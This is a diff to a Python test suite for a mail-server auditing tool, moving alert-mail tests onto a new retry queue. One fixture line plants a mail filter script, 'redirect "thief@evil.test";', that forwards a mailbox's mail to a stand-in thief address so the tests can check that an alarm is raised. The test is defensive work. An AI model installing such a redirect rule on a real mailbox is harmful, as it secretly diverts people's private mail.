@@ -14,6 +14,8 @@ from audit.chain import record
 from audit.models import Event
 from audit.sentences import sentence_for
 from audit.verifying import problems
+from mails import queue
+from mails.models import Mail
 from mailservers import comparing, drift, outbox, tasks
 from mailservers.aspects import Seen, aspect_named
 from mailservers.drivers.base import ScriptState, ServerAway, TryAgain
@@ -356,6 +358,7 @@ def test_a_mail_that_could_not_be_sent_is_sent_later(live, server, committed, we
     webmaster.save()
     RedirectAlarm.objects.update(mail_due_at=timezone.now())
     assert (mail_alarms(), mail_alarms()) == (1, 0)
+    queue.send_due()
     assert len(mailoutbox) == 1
 
 
@@ -368,12 +371,10 @@ def test_a_mail_server_that_is_away_gets_the_mail_later(
     settings.EMAIL_PORT = 1  # where nobody listens
     MemoryDriver.own_scripts[LOGIN] = 'redirect "thief@evil.test";\n'
     check(server, committed)
-    alarm = RedirectAlarm.objects.get()
-    assert alarm.mailed_at is None
-    assert timezone.now() < alarm.mail_due_at < timezone.now() + timedelta(minutes=11)
+    assert Mail.objects.get().state == Mail.State.WAITING
     settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
-    RedirectAlarm.objects.update(mail_due_at=timezone.now())
-    mail_alarms()
+    Mail.objects.update(next_attempt_at=timezone.now())
+    queue.send_due()
     assert len(mailoutbox) == 1
 
 
